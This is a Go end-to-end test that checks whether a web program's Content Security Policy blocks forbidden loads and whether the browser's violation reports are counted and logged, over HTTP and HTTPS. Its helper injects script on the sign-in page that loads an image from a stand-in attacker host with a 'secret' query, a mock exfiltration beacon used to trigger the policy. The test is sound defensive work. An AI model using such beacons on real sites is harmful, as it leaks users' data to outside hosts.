package e2e

import (
	"path/filepath"
	"strings"
	"testing"
	"time"

	"wakakusa/cert/certtest"
)

// TestContentPolicyIsReported: a real browser refuses what the policy forbids and says so, and the program counts it (H1). Every other journey
// ends with no report at all.
func TestContentPolicyIsReported(t *testing.T) {
	p := demo(t)
	provoke(t, p, newTab(t, p, desktop))
}

// TestContentPolicyIsReportedByHTTPS: by HTTPS browsers send reports in the new form, and later.
func TestContentPolicyIsReportedByHTTPS(t *testing.T) {
	certFile, keyFile := certtest.New(t).Files(t, t.TempDir(), time.Now().AddDate(0, 3, 0), "127.0.0.1")
	p, err := launchWith([]string{"DATA_DIR=" + filepath.Join(t.TempDir(), "data"), "LISTEN=127.0.0.1:0", "USE_HTTPS=true", "TLS_CERT=" + certFile, "TLS_KEY=" + keyFile}, "serve")
	if err != nil {
		t.Fatal(err)
	}
	stopping(t, p)
	provoke(t, p, newTab(t, p, desktop))
}

// provoke breaks the policy twice and waits until both are counted.
func provoke(t *testing.T, p *process, x *tab) {
	t.Helper()
	p.provoked = 2
	x.open(p.url + "/sign-in")
	eval[bool](x, `(() => { const i = new Image(); i.src = "https://evil.example/pixel?secret=1"; document.body.append(i); document.body.setAttribute("style", "color: red"); return true })()`)
	for end := time.Now().Add(patience); ; time.Sleep(50 * time.Millisecond) {
		n, ok := p.reports(t)
		if ok && n >= p.provoked {
			break
		}
		if time.Now().After(end) {
			t.Fatalf("%v reports, %v", n, ok)
		}
	}
	log := p.log.String()
	if !strings.Contains(log, "directive=img-src blocked=https://evil.example route=/sign-in") || strings.Contains(log, "pixel") {
		t.Error("the log does not say it as it should")
	}
	x.mu.Lock()
	defer x.mu.Unlock()
	if len(x.bad) < 2 {
		t.Errorf("the browser's console complained of %v", x.bad)
	}
	x.bad = nil
}
